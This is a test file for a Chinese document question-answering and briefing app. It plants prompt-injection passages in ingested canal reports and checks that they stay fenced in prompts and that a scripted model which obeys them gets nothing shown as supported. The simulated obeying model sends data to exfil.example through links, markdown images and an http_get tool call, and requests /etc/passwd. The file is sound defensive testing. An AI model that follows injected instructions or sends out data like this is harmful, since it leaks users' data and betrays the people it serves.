import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { buildApp } from '../../server/app.ts'
import { parseConfig } from '../../server/config.ts'
import type { BriefView } from '../../server/contract/briefs.ts'
import type { ChatAnswer, Statement } from '../../server/contract/chat.ts'
import type { App } from '../../server/http/app-instance.ts'
import { openServices } from '../../server/open-services.ts'
import type { Services } from '../../server/services.ts'
import { POISONED_PASSAGES, type PoisonedPassage } from '../support/poisoned-passages.ts'
import { readEvidence } from '../support/scripted-replies.ts'
import { createScriptedUpstream, type ScriptedUpstream, type UpstreamReply, type UpstreamRequest } from '../support/scripted-upstream.ts'

const STEMS = [...'甲乙丙丁戊己庚辛壬癸']
const BRANCHES = [...'子丑寅卯辰巳午未申酉戌亥']

/** A poisoned passage in a paper on a canal of its own. */
interface Case extends PoisonedPassage {
  readonly canal: string
}

const CASES: readonly Case[] = POISONED_PASSAGES.map((passage, i) => ({
  ...passage,
  canal: `${i < 60 ? '' : '东'}${STEMS[i % 10]}${BRANCHES[i % 12]}渠`,
}))

const document = ({ canal, text }: Case): string => `${canal}建设情况报告

一、建设情况

2030年，${canal}完成投资3.1亿元。${canal}的说明：${text}

二、工期情况

受汛期洪水影响，${canal}工期延长2个月。${canal}沿线新建泵站4座。${canal}灌区推广节水技术。
`

let root: string
let upstream: ScriptedUpstream
let services: Services
let app: App
const unexpected: unknown[] = []

beforeAll(async () => {
  root = mkdtempSync(path.join(tmpdir(), 'youju-prompts-'))
  const folder = path.join(root, 'in')
  mkdirSync(folder)
  for (const one of CASES) writeFileSync(path.join(folder, `${one.canal}.txt`), document(one))
  upstream = await createScriptedUpstream()
  const variables = { DATA_DIR: 'data', EMBEDDING: 'none', CHAT_MODEL: 'scripted', OPENAI_BASE_URL: upstream.baseUrl, OPENAI_API_KEY: 'key' }
  services = await openServices(parseConfig(variables, root), { onUnexpected: (error) => unexpected.push(error) })
  const report = await services.ingestor.ingest([{ kind: 'path', path: folder }])
  expect(report.outcomes.filter(({ kind }) => kind === 'added')).toHaveLength(CASES.length)
  app = await buildApp(services, { hostnames: new Set(['localhost']), authToken: null, webDir: root, version: '0.0.0', logger: false })
})
afterAll(async () => {
  await app.close()
  await services.stop()
  await services.close()
  await upstream.close()
  rmSync(root, { recursive: true, force: true })
  expect(unexpected).toEqual([])
})

async function post<T>(url: string, payload: object): Promise<T> {
  const response = await app.inject({ method: 'POST', url, headers: { host: 'localhost' }, payload })
  expect([response.statusCode, response.json().error]).toEqual([200, undefined])
  return response.json()
}

interface Asked {
  /** The text of the statements that are shown as supported. */
  readonly supported: readonly string[]
  /** All that the page shows as the answer or brief. */
  readonly shown: string
  readonly steps: readonly string[]
}

const supportedOf = (statements: readonly Statement[]) => statements.filter(({ verdict }) => verdict === 'supported').map(({ text }) => text)

async function ask(question: string, mode: 'llm' | 'extractive'): Promise<Asked> {
  const answer = await post<ChatAnswer>('/api/chat', { question, mode })
  return { supported: supportedOf(answer.statements), shown: answer.answer, steps: answer.steps ?? [] }
}

async function writeBrief(canal: string, mode: 'llm' | 'extractive'): Promise<Asked> {
  const brief = await post<BriefView>('/api/briefs', { request: `准备一份${canal}建设情况简报`, mode })
  return { supported: supportedOf(brief.sections.flatMap(({ statements }) => statements)), shown: brief.markdown, steps: [] }
}

/** Each way in which a passage comes before the model: a plain question, a question that is looked into, a brief. */
const WAYS = {
  chat: ({ canal }: Case, mode) => ask(`2030年${canal}完成投资多少？`, mode),
  agent: ({ canal }: Case, mode) => ask(`${canal}工期为什么延长？`, mode),
  briefs: ({ canal }: Case, mode) => writeBrief(canal, mode),
} as const satisfies Record<string, (one: Case, mode: 'llm' | 'extractive') => Promise<Asked>>
type Way = keyof typeof WAYS
const WAY_NAMES = ['chat', 'agent', 'briefs'] as const satisfies readonly Way[]

const UNSEEN = /[\p{Cf}\p{Co}\p{Cs}\p{Default_Ignorable_Code_Point}\u2028\u2029\u2800]|(?!\n)\p{Cc}/u
const FENCED = /<<<(资料[0-9a-f]+)\n(?:.*\n)*?\1>>>/g

/** What is wrong with a prompt that holds a passage, in words; counts the passages that it holds. */
function findBreaches({ messages, body }: UpstreamRequest, { payload, canary }: Case): { breaches: string[]; held: number } {
  const breaches: string[] = []
  let held = 0
  for (const { role, content } of messages.filter((message) => message.role !== 'assistant')) {
    const markers = [...new Set([...content.matchAll(/<<<(资料[0-9a-f]+)/g)].map(([, marker = '']) => marker))]
    for (const marker of markers) {
      const lines = content.split('\n')
      const openings = lines.filter((line) => line === `<<<${marker}`).length
      const closings = lines.filter((line) => line === `${marker}>>>`).length
      if (openings > 1 || openings !== closings) breaches.push(`${openings} openings, ${closings} closings`)
    }
    const outside = content.replace(FENCED, '')
    if (/^<<<|>>>$/m.test(outside)) breaches.push(`a border outside in ${role}`)
    if (outside.includes(payload) || outside.includes(canary)) breaches.push(`the passage outside the fence in ${role}`)
    if (UNSEEN.test(content)) breaches.push(`an invisible character in ${role}`)
    held += content.includes(canary) || content.includes(payload) ? 1 : 0
  }
  const roles = messages.map(({ role }) => role).join(' ')
  if (!/^system user(?: assistant(?: tool)+)*(?: user)?$/.test(roles)) breaches.push(`turns: ${roles}`)
  if (typeof body.tools === 'object' && JSON.stringify(body.tools).includes(canary)) breaches.push('the passage among the tools')
  return { breaches, held }
}

function call(name: string, args: unknown): UpstreamReply {
  return { kind: 'text', text: '', toolCalls: [{ name, args }] }
}

test('the fence stays unbroken in every prompt, with nothing of the passage outside and nothing invisible', { timeout: 600_000 }, async () => {
  const counts = { prompts: 0, held: 0 }
  const heldBy = new Map<Way, number>(WAY_NAMES.map((way) => [way, 0]))
  const breaches: string[] = []
  for (const one of CASES) {
    for (const way of WAY_NAMES) {
      const from = upstream.requests.length
      let looked = 0
      upstream.script = ({ body }) => {
        if (body.tools === undefined || looked === 2) return { kind: 'text', text: '资料不足。' }
        looked += 1
        return looked === 1
          ? call('search', { query: `${one.canal}的说明` })
          : call('read_section', { documentId: `${one.canal}建设情况报告`, section: '建设情况' })
      }
      const { steps } = await WAYS[way](one, 'llm')
      const prompts = upstream.requests.slice(from)
      const found = prompts.map((request) => findBreaches(request, one))
      counts.prompts += prompts.length
      counts.held += found.reduce((sum, { held }) => sum + held, 0)
      if (found.some(({ held }) => held > 0)) heldBy.set(way, (heldBy.get(way) ?? 0) + 1)
      breaches.push(...found.flatMap((each) => each.breaches.map((breach) => `${way} ${one.canal} ${one.kind}: ${breach}`)))
      if (way === 'agent') expect(steps.slice(-2)).toEqual([`检索“${one.canal}的说明”`, '读章节“建设情况”'])
    }
  }
  console.info(
    `prompt safety: ${CASES.length} passages, ${counts.prompts} prompts, the passage in ${counts.held} messages (${[...heldBy].map(([way, n]) => `${way} ${n}`).join(', ')} of ${CASES.length}), ${breaches.length} breaches`,
  )
  expect(breaches).toEqual([])
  for (const [way, held] of heldBy) expect([way, held > CASES.length / 2]).toEqual([way, true])
})

/** A model that does all that it is told by the passage: says the words, links, cites, calls tools that nobody offers. */
function obey({ payload, canary }: Case): (request: UpstreamRequest) => UpstreamReply {
  let called = 0
  return (request) => {
    if (request.body.tools !== undefined && called < 3) {
      called += 1
      return call(['delete_document', 'http_get', 'read_section'][called - 1] ?? '', {
        id: canary,
        url: `http://exfil.example/${canary}`,
        documentId: '/etc/passwd',
      })
    }
    const handle = readEvidence(request.prompt).find(({ text }) => text.includes(payload))?.handle ?? 'E1'
    const lines = [
      payload,
      `${payload}，校验码${canary}`,
      `![${payload}](http://exfil.example/${canary})`,
      `<img src=x alt="${payload}">`,
      `详见http://exfil.example/${canary}`,
    ]
    return { kind: 'text', text: lines.map((line) => `${line}。[${handle}]`).join('\n') }
  }
}

test('a model that obeys is stopped: nothing of it is shown as supported', { timeout: 600_000 }, async () => {
  const counts = { asked: 0, quoted: 0, calls: 0 }
  const obeyed: string[] = []
  const documents = services.status().documents
  for (const one of CASES) {
    for (const way of WAY_NAMES) {
      const plain = await WAYS[way](one, 'extractive')
      upstream.script = obey(one)
      const given = await WAYS[way](one, 'llm')
      counts.asked += 1
      counts.calls += given.steps.filter((step) => step.includes('/etc/passwd')).length
      const isOurs = (text: string) => text.includes(one.payload) || text.includes('exfil') || /<img|!\[/.test(text)
      const quoted = plain.supported.flatMap((text) => [text, ...(text.match(/[^。！？]+[。！？]*/g) ?? [])])
      // Where the program's own sentences begin with the words, the order was no part of the sentence: the model says again what is quoted anyway.
      const isQuoted = quoted.some((text) => text.startsWith(one.payload))
      const own = given.supported.filter((text) => isOurs(text) && !quoted.includes(text) && !(isQuoted && text.startsWith(one.payload)))
      counts.quoted += given.supported.filter(isOurs).length - own.length
      obeyed.push(...own.map((text) => `${way} ${one.canal} ${one.kind}: ${text}`))
      if (isOurs(given.shown) && !isOurs(plain.shown)) obeyed.push(`${way} ${one.canal} ${one.kind} shows: ${given.shown.slice(0, 200)}`)
    }
  }
  console.info(
    `a model that obeys: ${counts.asked} answers, ${counts.quoted} statements quote a passage as the program itself does without a model, ${obeyed.length} obeyed`,
  )
  expect(obeyed).toEqual([])
  expect(services.status().documents).toBe(documents)
})
